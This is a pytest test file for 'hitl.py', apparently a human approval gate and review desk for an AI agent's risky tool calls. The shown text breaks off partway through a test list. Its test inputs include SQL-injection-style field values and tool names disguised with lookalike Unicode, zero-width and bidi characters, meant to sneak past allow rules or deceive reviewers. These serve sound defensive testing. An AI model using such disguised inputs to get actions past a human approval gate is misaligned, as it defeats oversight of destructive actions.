"""The tests of hitl.py: the same rooms in the same order, one test for each
numbered promise, hostile input, and the whole trip as one story in a browser.

    python3 -m pytest -W error test_hitl.py     # a minute, pytest alone
    HITL_LONG=1 python3 -m pytest ...           # the long ones as well
    .ci/run                                     # all of it, on every Python

Real server, real SQLite, real sockets, a real browser where there is one; no
mocks of our own code. Each test's docstring is a sentence of the
specification.
"""
from __future__ import annotations

import ast
import asyncio
import base64
import colorsys
import contextlib
import functools
import hashlib
import html
import hmac
import io
import json
import os
import py_compile
import random
import re
import shlex
import shutil
import signal
import socket
import sqlite3
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
import tomllib
import unicodedata
import urllib.request
from concurrent import futures
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from email import message_from_bytes
from email.utils import format_datetime
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib.util import cache_from_source
from pathlib import Path
from urllib.parse import urlencode

import pytest

with contextlib.suppress(ImportError):     # not on Windows
    import pty

HERE = Path(__file__).absolute().parent
FILE = HERE / "hitl.py"
sys.path.insert(0, str(HERE))
import hitl                                                     # noqa: E402

LONG = bool(os.environ.get("HITL_LONG"))
long = pytest.mark.skipif(not LONG, reason="long: set HITL_LONG=1")
CACHE = tempfile.mkdtemp(prefix="hitl-tests-")      # bytecode: compiled once
HITL = (sys.executable, "-I", "-W", "error", "-c", hitl.LOADER, CACHE, str(FILE))

# ================================== Tools ==================================
# A desk on a free port with a database of its own, a reviewer and an agent who
# talk to it, a gate, a browser. What a person types runs in this process, by
# `typed`. Every other process starts in start(): by `command`, which waits for
# its end, as `Running`, which reads what it says meanwhile, or as `Served`, a
# desk that can be killed and started again.

RULES = """
[gate]
timeout_seconds = 20

[[checkpoint]]
checkpoint_id = "delete-records"
action_pattern = "delete_*"
description_template = "Delete {table} where {condition}"
category = "destructive"
"""
CALL = {"table": "users", "condition": "id = 3"}
REVIEWER_TOKEN = "reviewer-token-of-the-tests"
AGENT_TOKEN = "agent-token-of-the-tests"
JSON = {"Content-Type": "application/json"}
SILENT = "http://127.0.0.1:1"           # a port that nobody listens on


class Clock:
    """A clock that is turned by hand."""

    def __init__(self) -> None:
        self.time = 1_800_000_000.0

    def __call__(self) -> float:
        return self.time


class Desk:
    """A real server in a thread, on a free port, with a real database."""

    def __init__(self, folder: Path, agent_token: str | None = None,
                 clock=time.time, named=None, agents=None, port=0, limits=(),
                 **more) -> None:
        self.folder, self.clock, self.more = folder, clock, more
        self.more["limits"] = hitl.Limits(**{
            "slow_seconds": 0, "sweep_seconds": 0.02} | dict(limits))
        self.tokens = hitl.Tokens(
            agents or agent_token and {"token": hitl.token_hash(agent_token)} or {},
            named or {}, None if named else hitl.token_hash(REVIEWER_TOKEN))
        self.agent_token = agent_token
        self.database = folder / "hitl.db"
        self.lines: list[str] = []
        self.start(port)

    def start(self, port: int = 0) -> None:
        self.store = hitl.open_store(self.database, self.clock)
        self.store.db.execute("PRAGMA synchronous = OFF")   # as in `store`
        self.server = hitl.open_desk("127.0.0.1", port, self.store,
                                     self.tokens, say=self.lines.append,
                                     **self.more)
        self.url, self.port = self.server.url, self.server.server_port
        self.thread = threading.Thread(target=self.server.serve_forever)
        self.thread.start()

    def stop(self) -> None:
        self.server.stop()
        self.thread.join()
        self.store.close()

    def restart(self) -> None:
        """Stop, and start again on the same port and database."""
        self.stop()
        self.start(self.port)

    def reviewer(self, name: str = "ana", token: str = REVIEWER_TOKEN):
        return hitl.Client(self.url, hitl.basic(name, token))

    def agent(self):
        token = self.agent_token
        return hitl.Client(self.url, f"Bearer {token}" if token else "")

    def post(self, request_id: str = "r-1", **fields):
        """POST /pending with the four fields and these -> Reply."""
        return self.agent().exchange(
            "POST", "/pending", four(request_id) | fields, seconds=10)

    def decide(self, request_id: str, decision: str = "approved", **fields):
        return self.reviewer().exchange(
            "POST", f"/approve/{request_id}", {"decision": decision} | fields,
            seconds=10)

    def state(self, request_id: str) -> dict:
        return self.agent().exchange("GET", f"/pending/{request_id}",
                                     seconds=10).body

    def waiting(self, count: int = 1) -> list[dict]:
        """What waits, once there are so many requests, or 10 s are over."""
        def enough():
            rows = self.reviewer().exchange("GET", "/pending",
                                            seconds=10).body["waiting"]
            return rows if len(rows) >= count else None
        return until(enough) or []

    def rows(self, sql: str, *values) -> list:
        """What another process sees in the database."""
        with hitl.open_for_reading(self.database) as db:
            return db.execute(sql, values).fetchall()

    def raw(self, data: bytes, seconds: float = 5.0) -> bytes:
        """Bytes on a socket of their own -> all that comes back."""
        with socket.create_connection(("127.0.0.1", self.port),
                                      seconds) as sock:
            sock.sendall(data)
            return read_all(sock)

    def page(self, path: str = "/") -> str:
        return self.reviewer().fetch("GET", path, seconds=10,
                                     Accept="text/html")[2].decode()


def four(request_id: str = "r-1") -> dict:
    """The guide's four fields."""
    return {"request_id": request_id,
            "action_description": "Delete users where id = 3",
            "agent_context": {"task": "clean up"},
            "timestamp": "2026-11-22T18:00:00Z"}


def read_all(sock: socket.socket) -> bytes:
    """All that a socket gives until it is closed or reset, or times out."""
    data = b""
    with contextlib.suppress(OSError):
        while part := sock.recv(1 << 16):
            data += part
    return data


def until(test, seconds: float = 10.0):
    """The first true value of test(), or its last one when the time is up."""
    end = time.monotonic() + seconds
    while not (value := test()):
        if time.monotonic() > end:
            return value
        time.sleep(0.01)
    return value


def in_background(function, *args, **how):
    """Run in a thread -> a function that waits, and returns or raises as it did."""
    future = futures.ThreadPoolExecutor().submit(function, *args, **how)

    def result(seconds: float = 30.0):
        assert futures.wait([future], seconds).done, "it still runs"
        return future.result()
    return result


def start(*argv: str, folder: Path = HERE, stdin=subprocess.PIPE,
          stdout=subprocess.PIPE, stderr=subprocess.PIPE, text: bool = True,
          **environ: str) -> subprocess.Popen:
    """Start a process with these variables of the environment as well."""
    return subprocess.Popen(
        argv, cwd=folder, stdin=stdin, stdout=stdout, stderr=stderr,
        text=text, env=os.environ | environ)


def command(*words: str, folder: Path = HERE, stdin: str = "",
            seconds: float = 60, argv=HITL, **environ: str):
    """Run hitl.py as a user does -> CompletedProcess with text."""
    with start(*argv, *words, folder=folder, **environ) as process:
        try:
            out, err = process.communicate(stdin, seconds)
        except BaseException:
            process.kill()
            raise
    return subprocess.CompletedProcess(words, process.returncode, out, err)


class Typed(hitl.NamedTuple):
    status: int
    out: str
    err: str


def typed(where, *words: str, encoding: str = "utf-8", terminal: bool = False,
          **environ: str) -> Typed:
    """What a reviewer types in a folder, or in that of a desk: main() in this
    process, its stdout in this encoding, its stderr perhaps a terminal."""
    out, err = io.TextIOWrapper(io.BytesIO(), encoding), io.StringIO()
    err.isatty = lambda: terminal
    with pytest.MonkeyPatch.context() as patch, \
            contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        if not isinstance(where, Path):
            environ = {"HITL_REVIEWER": "ana", "HITL_SERVER_URL": where.url,
                       "HITL_REVIEWER_TOKEN": REVIEWER_TOKEN} | environ
            where = where.folder
        for name, value in environ.items():
            patch.setenv(name, value)
        patch.chdir(where)
        try:
            status = hitl.main(list(words))
        except SystemExit as end:               # argparse
            status = end.code
    out.flush()
    return Typed(status, out.buffer.getvalue().decode(), err.getvalue())


class Running:
    """A process that runs on, and what it said so far."""

    def __init__(self, *argv: str, stdin=subprocess.DEVNULL, terminal=False,
                 **how) -> None:
        self.output, theirs = pty.openpty() if terminal else os.pipe()
        self.process = start(*argv, stdin=stdin, stdout=theirs, stderr=theirs,
                             text=False, **how)
        os.close(theirs)
        self.data = b""
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()

    def read(self) -> None:
        with contextlib.suppress(OSError), open(self.output, "rb", 0) as file:
            while part := file.read(1 << 16):
                self.data += part.replace(b"\r\n", b"\n")

    @property
    def text(self) -> str:
        return self.data.decode(errors="backslashreplace")

    @property
    def lines(self) -> list[str]:
        return self.text.splitlines()

    def said(self, pattern: str, seconds: float = 10.0):
        """The first line that matches, as soon as it is there; else None."""
        return until(lambda: re.search(f"^{pattern}$", self.text, re.M),
                     seconds)

    def stop(self, number: int = signal.SIGTERM) -> int:
        """Send a signal and wait -> the exit status."""
        if self.process.poll() is None:
            self.process.send_signal(number)
        code = self.process.wait(20)
        self.reader.join(5)
        return code

    def __enter__(self):
        return self

    def __exit__(self, *error) -> None:
        self.process.kill()
        self.stop()


class Served(Running):
    """`hitl.py serve` as a process of its own, which can be killed."""

    def __init__(self, folder: Path, *words: str, port: int = 0,
                 terminal: bool = False, **environ: str) -> None:
        self.folder, self.words, self.port = folder, words, port
        self.terminal = terminal
        self.environ = {"HITL_REVIEWER_TOKEN": REVIEWER_TOKEN} | environ
        self.start()

    def start(self) -> None:
        super().__init__(
            *HITL, "serve", "--database", str(self.folder / "hitl.db"),
            "--port", str(self.port), *self.words, folder=self.folder,
            terminal=self.terminal, **self.environ)
        until(lambda: "audit log" in self.text
              or self.process.poll() is not None)
        link = re.search("^https?://.*$", self.text, re.M)
        assert link, self.text
        self.link = link[0]
        self.url = re.sub(r"//.*@", "//", self.link).rstrip("/")
        self.port = int(self.url.rpartition(":")[2])

    def reviewer(self, name: str = "ana"):
        return hitl.Client(self.url, hitl.basic(name, REVIEWER_TOKEN))

    def agent(self):
        return hitl.Client(self.url)


@pytest.fixture(autouse=True, scope="session")
def clean_environment(tmp_path_factory):
    """No test sees the variables that are set for hitl.py outside, or a proxy:
    tests set what they need, and talk to this machine alone."""
    for name in list(os.environ):
        if re.search("(?i)^HITL_|_proxy$", name):
            del os.environ[name]
    os.environ["XDG_CACHE_HOME"] = str(tmp_path_factory.mktemp("cache"))
    # `pytest &` in a script ignores Ctrl-C, and so would all that it starts
    signal.signal(signal.SIGINT, signal.default_int_handler)
    yield
    shutil.rmtree(CACHE)


@pytest.fixture
def make_desk(tmp_path):
    """A maker of desks with their settings; all are stopped at the end."""
    with contextlib.ExitStack() as stack:
        def make(folder: Path | None = None, **settings):
            made = Desk(folder or Path(tempfile.mkdtemp(dir=tmp_path)), **settings)
            stack.callback(made.stop)
            return made
        yield make


@pytest.fixture
def desk(make_desk, tmp_path):
    """A desk with open agent routes, as on loopback."""
    return make_desk(tmp_path)


@pytest.fixture
def make_gate(tmp_path):
    """A maker of gates: rules as text, a desk or a URL."""
    def make(where=None, rules: str = RULES, **more):
        path = tmp_path / "checkpoints.toml"
        path.write_text(rules)
        if where is not None:
            more["server_url"] = getattr(where, "url", where)
        return hitl.Gate(path, **more)
    return make


@pytest.fixture
def make_rules(tmp_path):
    """A maker of rules: the text of a checkpoints.toml -> hitl.Rules."""
    def make(text: str):
        path = tmp_path / "checkpoints.toml"
        path.write_text(text)
        return hitl.load_configuration(path).rules
    return make


@pytest.fixture(scope="session")
def certificate(tmp_path_factory):
    """A self-signed certificate for 127.0.0.1 with its key, in one file."""
    if not shutil.which("openssl"):
        pytest.skip("no openssl to make a certificate with")
    path = tmp_path_factory.mktemp("tls") / "pair.pem"
    done = command(
        "req", "-x509", "-newkey", "ec", "-pkeyopt",
        "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2", "-subj",
        "/CN=desk", "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", "-",
        "-out", "-", argv=["openssl"])
    path.write_text(done.stdout)
    return path


# ---- a server that answers what a test tells it to ----

class Wire(ThreadingHTTPServer):
    """answer(path, request) yields the pieces to send; None among them resets
    the connection. `got` is what came: path, headers and body."""

    request_queue_size = 512

    def __init__(self, answer, tls=None) -> None:
        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"] or 0))
                head = self.headers.as_bytes().replace(b"\n", b"\r\n")
                self.server.got.append((self.path, self.headers, body))
                for piece in answer(self.path, self.raw_requestline + head + body):
                    if piece is None:
                        self.connection.setsockopt(
                            socket.SOL_SOCKET, socket.SO_LINGER,
                            struct.pack("ii", 1, 0))
                        return os.close(self.connection.detach())
                    self.wfile.write(piece)
            do_POST = do_GET

            def log_message(self, *args) -> None:
                pass
        self.got = []
        super().__init__(("127.0.0.1", 0), Handler)
        if tls:
            self.socket = tls.wrap_socket(self.socket, server_side=True)
        scheme = "https" if tls else "http"
        self.url = f"{scheme}://127.0.0.1:{self.server_port}"
        threading.Thread(target=self.serve_forever, args=(0.02,),
                         daemon=True).start()

    def handle_error(self, *client) -> None:
        pass

    def __exit__(self, *error) -> None:
        self.shutdown()
        self.server_close()


def http_reply(body, status: int = 200, kind: str = "application/json",
               length: int | None = None) -> bytes:
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    length = len(body) if length is None else length
    return (f"HTTP/1.1 {status} Word\r\nContent-Type: {kind}\r\nLocation: /"
            f"\r\nContent-Length: {length}\r\n\r\n").encode() + body


# ---- a browser: chromedriver speaks plain HTTP (W3C WebDriver) ----

class Browser:
    """Headless Chromium through chromedriver; needs no package."""

    CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
    DRIVER = shutil.which("chromedriver")

    def __init__(self) -> None:
        self.driver = Running(self.DRIVER, "--port=0")
        port = self.driver.said(".* started successfully on port ([0-9]+).*")[1]
        self.base = f"http://127.0.0.1:{port}"
        arguments = [
            "--headless=new", "--no-sandbox", "--disable-gpu",
            "--disable-quic", "--no-first-run", "--disable-sync",
            "--disable-background-networking", "--disable-component-update"]
        options = {"binary": self.CHROMIUM, "args": arguments}
        self.session = "/session/" + self.ask("POST", "/session", {
            "capabilities": {"alwaysMatch": {
                "browserName": "chrome", "goog:chromeOptions": options}}}
            )["sessionId"]

    def ask(self, method: str, path: str, body=None):
        """One WebDriver command -> its value; AssertionError if it fails."""
        data = None if body is None else json.dumps(body).encode()
        request = urllib.request.Request(
            self.base + path, data, {"Content-Type": "application/json"},
            method=method)
        try:
            with urllib.request.urlopen(request, timeout=60) as reply:
                return json.load(reply)["value"]
        except urllib.request.HTTPError as error:
            raise AssertionError(error.read().decode()[:500]) from None

    def open(self, url: str) -> None:
        self.ask("POST", self.session + "/url", {"url": url})

    def run(self, script: str, *args):
        """The value of a script in the page."""
        return self.ask("POST", self.session + "/execute/sync",
                        {"script": script, "args": list(args)})

    def text(self, css: str = "body") -> str:
        return self.run("const e = document.querySelector(arguments[0]);"
                        "return e ? e.innerText : ''", css)

    def touch(self, css: str, how: str, **what: str) -> None:
        found = self.ask("POST", self.session + "/element",
                         {"using": "css selector", "value": css})
        element, = found.values()
        self.ask("POST", f"{self.session}/element/{element}/{how}", what)

    def click(self, css: str) -> None:
        self.touch(css, "click")

    def act(self, kind: str, *actions: dict) -> None:
        """What a hand does with a pointer or keys."""
        self.ask("POST", self.session + "/actions", {"actions": [{
            "type": kind, "id": kind, "actions": actions}]})

    def cdp(self, name: str, **values):
        """One command of Chromium's own protocol."""
        return self.ask("POST", self.session + "/goog/cdp/execute",
                        {"cmd": name, "params": values})

    def type(self, css: str, text: str) -> None:
        self.touch(css, "value", text=text)

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.ask("DELETE", self.session)
        self.driver.stop()


needs_browser = pytest.mark.skipif(
    not (Browser.CHROMIUM and Browser.DRIVER),
    reason="no browser: Debian's packages chromium and chromium-driver")


# =============================== Front door ================================
# What the first lines say of the file is so.

def test_the_map_shows_the_rooms():
    """The front door's map has every room of the file, in its order, with
    its lines to within a twentieth, or twenty."""
    parts = re.split("^# =+ ([^=]+) =+$", FILE.read_text("utf-8"), flags=re.M)
    lines = dict(zip(parts[1::2], (p.count("\n") for p in parts[2::2]),
                     strict=True))
    mapped = dict(re.findall(r"^  [* ] (\S.*?) +(\d+)  \S", hitl.__doc__, re.M))
    assert list(mapped) == list(lines)
    wrong = {name: count for name, count in lines.items()
             if abs(int(mapped[name]) - count) > max(20, count / 20)}
    assert not wrong, "write these into the map"


def test_the_front_door_names_everything():
    """Each promise is cited by the code and has a test of its own; every
    variable of the environment is named; the licence goes with the copy."""
    code = FILE.read_text("utf-8").replace(hitl.__doc__, "")
    promises = set(re.findall(r"^(\d)\. ", hitl.__doc__, re.M))
    assert promises == set("123456789")
    assert promises == set(re.findall(r"promise (\d)", code))
    assert promises == set(re.findall(r"def test_promise_(\d)",
                                      Path(__file__).read_text("utf-8")))
    variables = set(re.findall('"(HITL_[A-Z_]+)', code))
    assert variables == set(re.findall("HITL_[A-Z_]+", hitl.__doc__))
    assert "SPDX-License-Identifier: MIT-0\n" in code
    assert f"hitl.py {hitl.__version__} (" in hitl.__doc__.splitlines()[0]


def test_an_old_python_is_told_so(monkeypatch, capsys):
    """Python 3.8 to 3.10 can parse the file and say in one sentence what it
    needs, with a refusal's exit status; an import raises ImportError."""
    source = FILE.read_text("utf-8")
    ast.parse(source, feature_version=(3, 8))
    head = source.partition("\nLOADER = ")[0]
    says = "hitl.py needs Python 3.11 or newer, but this is Python 3.10.1"
    monkeypatch.setattr(sys, "version_info", (3, 10))
    monkeypatch.setattr(sys, "version", "3.10.1 x")
    with pytest.raises(ImportError, match=f"^{says}$"):
        exec(head, {"__name__": "hitl"})
    with pytest.raises(SystemExit, match="^2$"):
        exec(head, {"__name__": "__main__"})
    out, err = capsys.readouterr()
    assert not out and err.startswith(f"hitl: error: {says}\nhitl: hint: ")


# =============================== Vocabulary ================================
# JSON that two readers cannot read differently, one digest for one call, and
# text that cannot lie: what is shown can be read back to the very text.

RULES_LETTERS = (
    'aZ09 _-\\"\'{[&;\n\0\x1b\x7f\xa0\xe9\u0301\u0430\u0435\u03bf\u0661\u200b'
    '\u202e\u2028\u27e6\u27e7\u3164\ufeff\uff41\U0001d41d\U0001f600')


def rules_id(value) -> str:
    """A short name of a case."""
    return ascii(value)[:40]


def some_text(rng) -> str:
    """Up to eleven letters, or runs of nine: spaces may be hidden."""
    return "".join(rng.choices(RULES_LETTERS, k=rng.randrange(12))).replace(
        " ", " " * rng.choice((1, 9)))


def some_json(rng, depth: int = 4):
    """A JSON value, of any kind and up to so many levels."""
    kind = rng.randrange(5 if depth else 3)
    if kind < 2:
        return some_text(rng)
    if kind == 2:
        return rng.choice([None, True, 2**53 + 1, 10**4000, -0.0, 1.0, 5e-324,
                           1.7e308, rng.random(), -rng.getrandbits(900)])
    inner = [some_json(rng, depth - 1) for _ in range(rng.randrange(4))]
    return inner if kind == 3 else {some_text(rng): v for v in inner}


@pytest.mark.parametrize("data, why", [
    ('[{"a": 1, "\\u0061": 2}]', "a name appears twice in one JSON object"),
    ("NaN", "NaN is not a finite"), ('{"a": -Infinity}', "-Infinity is not a"),
    ("[-1e999]", "-1e999 is not a finite number"), ("9" * 5000, "digits"),
    ('{"\\uDC00\\ud800": 1}', "a lone surrogate is not text"),
    ('"\ud800"', "a lone surrogate is not text"), (b'"\xc0\xaf"', "utf-8"),
    (b"\xef\xbb\xbf{}", "Expecting value"), ("{}".encode("utf-16"), "utf-8"),
    ("[" + "[]," * 100_000, "more than 100000 lists and objects"),
    ("{} {}", "Extra data"), ("01", "Extra data"),
    (b"{}\0", "Extra data"), ("", "Expecting value"),
    *((bad, "") for bad in ("[1,]", "\xa01", "+1", ".5", "'a'", "{a: 1}",
                            '"\t"', '"a', "\u0661", "True")),
    *((levels, "nested deeper than 32") for levels in (
        "[" * 100_000, "[" * 33 + "]" * 33, '{"a":' * 33 + "[]" + "}" * 33,
        '[{"a":' * 16 + "{}" + "}]" * 16))], ids=rules_id)
def test_json_that_could_be_read_in_two_ways_is_refused(data, why):
    """Strict JSON: UTF-8, no duplicates, no NaN, no infinity, 32 levels at
    most, nothing after it; else ValueError with the reason."""
    with pytest.raises(ValueError, match=re.escape(why) or None):
        hitl.parse_json(data)


def test_the_digest_is_sha256_over_canonical_json():
    """Canonical JSON (sorted keys, no spaces, ASCII) is one text for one
    value; the digest is SHA-256 over that of action_description, arguments
    and tool, null where absent."""
    rng = random.Random(22)
    calls = [("null", None, "null"), ("null", "null", None), ("", {}, ""),
             ("[{" * 99, {"wide": [[1]] * 99}, "t"),        # 32 levels pass:
             ("", {"deep": json.loads("[" * 30 + "]" * 30)}, "t")]
    calls += [(some_text(rng), {"a": some_json(rng)}, some_text(rng))
              for _ in range(500)]
    for what, arguments, tool in calls:
        call = {"action_description": what, "tool": tool,
                "arguments": arguments}
        text = hitl.canonical(call)
        assert text.isascii() and hitl.parse_json(text.encode()) == call
        loose = json.dumps(call, ensure_ascii=False, indent=1)
        assert hitl.canonical(hitl.parse_json(loose)) == text
        given = None if arguments is None else hitl.canonical(arguments)
        assert hitl.digest_of(what, given, tool) == (
            hashlib.sha256(text.encode()).hexdigest())
    assert hitl.canonical({"b": [1, {}], "a": "\u00e9"}) == (
        '{"a":"\\u00e9","b":[1,{}]}')
    for bad in (float("nan"), [float("-inf")]):
        with pytest.raises(ValueError):
            hitl.canonical(bad)


def test_a_timestamp_is_iso_8601_or_unix_seconds():
    """ISO 8601 (no offset means UTC) or Unix seconds are stored as UTC;
    anything else is told what it must be."""
    for given, stored in (
            ("2026-11-22T18:00:00", "2026-11-22T18:00:00.000Z"),
            ("2026-11-22T18:00:00.123456+05:30", "2026-11-22T12:30:00.123Z"),
            (1795370400, "2026-11-22T18:00:00.000Z")):
        assert hitl.parse_timestamp(given) == stored
    for bad in ("", "soon", "2026-13-01", "\ud800", "1795370400", True, None,
                [], "0001-01-01T00:00:00+05:00", -1e20, 10**400,
                float("nan"), float("inf"), 1795370400000):
        with pytest.raises(ValueError, match="ISO 8601 or Unix seconds$"):
            hitl.parse_timestamp(bad)


# ================================== Text ===================================

SHOWN = re.compile("\u27e6(?:U\\+([0-9A-F]{4,6})|(space|line break) x([0-9]+)"
                   "|([^ -~\u27e6\u27e7]+))\u27e7")


def read_back(shown: str) -> str:
    """The text that visible() has shown so."""
    def original(found) -> str:
        code, padding, count, word = found.groups()
        if padding:
            return {"space": " ", "line break": "\n"}[padding] * int(count)
        return chr(int(code, 16)) if code else word
    return SHOWN.sub(original, shown)


@pytest.mark.parametrize("left, right, end", [
    ("", "", 0x11000), ("a", "", 0x3400), ("\u0430", "\u0430", 0x3400),
    *(pytest.param(left, right, sys.maxunicode, marks=long) for left, right
      in (("", ""), ("a", "\u0301"), ("\u0430", "a")))], ids=rules_id)
def test_no_two_texts_are_shown_alike(left, right, end):
    """Every code point, alone, beside others and in runs, is shown on one
    line, printable, and so that the text can be read back to the letter."""
    rng = random.Random(7)
    texts = [some_text(rng) + some_text(rng) for _ in range(500)]
    for n in range(0, end, 512):
        texts.append(" ".join(left + chr(c) + right
                              for c in range(n, n + 512)))
    for text in texts:
        shown = hitl.visible(text)
        assert shown.isprintable() and text == read_back(shown)
        beyond = re.sub("\u27e6[^\u27e7]*\u27e7", "", shown)
        for c in filter(lambda c: not c.isascii(), set(beyond)):
            base = unicodedata.normalize("NFD", c)[0]
            assert base.isascii() or "\xc0" <= c <= "\u017e", hex(ord(c))


@pytest.mark.parametrize("text, shown", [   # <a>: this a is a code; [a]: in
    ("\u0430dmin x_\u0437", "[\u0430]dmin x_[\u0437]"),       # brackets
    ("prod<\u0301> x<\u20d2> \u0430\u0306<\u0336>",
     "prod<\u0301> x<\u20d2> [\u0430\u0306]<\u0336>"),
    *((text, text) for text in (
        "<\u27e6>U+0041<\u27e7>", "<\uff44><\uff45> <\U0001d41d>",
        "<\ufb01>le <\u212a> <\u2126> <\xb2> <\u2122> <\u2026>",
        "a<\n>b<\r><\t>c", "<\x1b>[2J<\x07><\0>", "a<\u202e>b<\u2028>",
        "<\ud800>", "us<\xad>e<\u200b>rs", "a<\xa0>b<\u3164><\u2800>",
        "<\U000e0041><\uff3f><\ufe0f>", "rm<\u2215>x<\u2024>y<\u2236>",
        "<\u2010><\u2011><\u2012><\u2013><\u2014><\u2212><\ufe58>",
        "<\u2018><\u2019><\u201a><\u201c><\u201d><\u2032><\u2033>",
        "<\u02b9><\u02bc><\u05f3><\u2039><\xd7><\xf7>",
        "Delete users where id = 3; -- it's 100% {x}",
        "Stra\xdfe l\xf6schen, caf\xe9 \xe0 No\xebl, ti\u1ebfng Vi\u1ec7t",
        "a" + 8 * " " + "b")),
    ("\u0437\u0430\u043f\u0438\u0441\u044c \u0395\u03bb\u03bb\u03ac",
     "[\u0437\u0430\u043f\u0438\u0441\u044c] [\u0395\u03bb\u03bb\u03ac]"),
    ("mv \u05d0 \u05d1", "mv [\u05d0] [\u05d1]"),
    ("delete\u5220\u9664\u3002 5 \u20ac \u2713",
     "delete[\u5220\u9664\u3002] 5 [\u20ac] [\u2713]")], ids=rules_id)
def test_what_deceives_the_eye_is_shown_as_escapes(text, shown):
    """What is not drawn and what looks like something else is a code; words
    of other scripts are in brackets, so a look-alike gives itself away."""
    expected = re.sub(r"\[([^ -~]+)\]", "\u27e6\\1\u27e7", re.sub(
        "(?s)<(.)>", lambda c: f"\u27e6U+{ord(c[1]):04X}\u27e7", shown))
    assert hitl.visible(re.sub("(?s)<(.)>", r"\1", text)) == expected


def test_a_call_and_its_figures_are_put_into_words():
    """A call reads as one line, its short values first; a line that is cut
    ends in an ellipsis and never in the middle of a code."""
    assert hitl.call_in_words("send_email", {
        "body": "x\n" * 600, "to": "maria@example.com", "subject": "Refund",
        "copies": 3, "tags": [], "files": ["a"]}) == (
        'send_email to maria@example.com, subject "Refund", copies 3, '
        'tags [], body (1.2 KB), files (5 bytes)')
    assert [hitl.readable_size(n) for n in (999, 1000, 9949, 64_000)] == [
        "999 bytes", "1.0 KB", "9.9 KB", "64 KB"]
    assert hitl.visible("\n" * 2000 + " " * 10_000 + "x\n" + " " * 8) == (
        "\u27e6line break x2000\u27e7\u27e6space x10000\u27e7x"
        "\u27e6U+000A\u27e7" + " " * 8)        # padding pushes nothing away
    for text, line in (("a\n b", "a \u21b5 b"), ("z" * 121, "z" * 119 + "\u2026"),
                       ("z" * 115 + "\u202e" * 9, "z" * 115 + "\u2026")):
        assert hitl.one_line(text) == line


def test_a_change_is_told_by_its_parts():
    """What a reviewer changed is named where it is, in lists and objects too;
    whatever else differs is named as a whole."""
    for old, new, words in (
            ({"to": ["a", "b"], "o": {"x": 1, "y": []}},
             {"to": ["a", "c"], "o": {"x": 2, "y": []}},
             'to.1: "b" -> "c", o.x: 1 -> 2'),
            ({"t": "a\nb", "f": 1}, {"t": "a\nc", "f": 1.0},
             "t: (3 bytes) -> (3 bytes), f: 1 -> 1.0"),
            ({"l": [1], "m": {"a": 1}}, {"l": [], "m": 2},
             "l: (3 bytes) -> [], m: (8 bytes) -> 2"), ({"a": 1}, {"a": 1}, "")):
        assert hitl.changes_in_words("ana", json.dumps(old), json.dumps(new)) == (
            "changed by ana: {%s}" % words)


# ================================ Matching =================================
# Whatever a call is called, a rule that means it finds it.

def rule(checkpoint_id: str = '"a"', **keys: str) -> str:
    """A [[checkpoint]]; values are TOML, "" leaves a required one out."""
    keys = {"checkpoint_id": checkpoint_id, "action_pattern": '"delete_*"',
            "description_template": '"Delete {table}"'} | keys
    return "[[checkpoint]]\n" + "".join(
        f"{key} = {value}\n" for key, value in keys.items() if value)


def test_the_first_checkpoint_that_matches_decides(make_rules):
    """Checkpoints are tried in file order, the first that matches decides;
    `allow` and `deny` make exceptions and absolute refusals possible; a call is
    meant where every argument is, over line ends too."""
    rules = make_rules(
        rule('"tidy"', action_pattern='"delete_tmp"', effect='"allow"')
        + rule('"never"', action_pattern='"delete_all"', effect='"deny"')
        + rule('"users"', arguments='{ table = "users" }')
        + rule('"rest"', arguments="{ table = '^(?!log)' }")
        + rule('"both"', action_pattern='"put"', arguments=(
            '{ table = "prod", sql = "drop.x" }')))
    for tool, table, *decided in (
            ("put", "PROD", "review", "both"), ("put", "dev", "allow", "unmatched"),
            ("delete_tmp", "users", "allow", "tidy"),
            ("Delete_tmp", "users", "review", "users"),
            ("x_DELETE_ALL_y", "logs", "deny", "never"),
            ("delete_x", "orders", "review", "rest"),
            ("delete_x", "logs", "allow", "unmatched"),
            ("read", "users", "allow", "unmatched")):
        match = rules.first_match(tool, {"table": table, "sql": "; DROP\nx"})
        assert [match.effect, match.checkpoint.checkpoint_id] == decided
    assert rules.first_match("put", {"table": "prod", "sql": ""}).effect == "allow"
    holding = rules.all_holding("call", {"tool_name": "delete_tmp", "table": "users"})
    assert [c.checkpoint_id for c in holding] == ["users", "rest"]


@pytest.mark.parametrize("names, odd", [
    (["thread_file", "READ_file", "x.read_file", "mcp__x__read_file",
      "read_file ", "read_file2"], False),
    (["x" * 201, "x" * 228 + "delete_users", "", "\n", "read_file\n",
      "read\u200b_file", "re\u0430d_file", "\ud800", "\uff52ead_file",
      "l\u00f6schen", "\u524a\u9664"], True)])
def test_allow_needs_the_whole_raw_name_to_the_letter(make_rules, names, odd):
    """effect = "allow" needs a case-sensitive full match of the raw name; a
    name that is not plain ASCII always waits, but deny denies it; one of more
    than 200 characters waits before anything is cut."""
    review = '[gate]\nunmatched = "review"\n'
    allow, anything, deny = (make_rules(review + rule(
        action_pattern=f"'{pattern}'", effect=f'"{effect}"'))
        for pattern, effect in (("read_[a-z]+", "allow"),
                                (r"[\s\S]*", "allow"), (".*", "deny")))
    assert allow.first_match("read_file", {}).effect == "allow"
    assert anything.first_match("x" * 200, {}).effect == "allow"
    for name in names:
        assert allow.first_match(name, {}).effect == "review"
        assert (anything.first_match(name, {}).effect == "review") == odd
        decided = "review" if len(name) > 200 else "deny"
        assert deny.first_match(name, {}).effect == decided


@pytest.mark.parametrize("arguments, review, allow", [
    *(({"table": table}, review, allow) for table, review, allow in (
        ("users", True, True), ("Users", True, False), ("all_users", True, False),
        ("\uff55s\u200bers", True, False), ("x\nusers\ny", True, False),
        ("logs", False, False), ("", False, False), (False, True, False),
        (["logs"], True, False), ({"a": "b"}, True, False),
        ("l" * 65537, True, False),                 # too long to be searched
        ("\ufdfa" * 4096, True, False))),           # 18 times that as NFKC
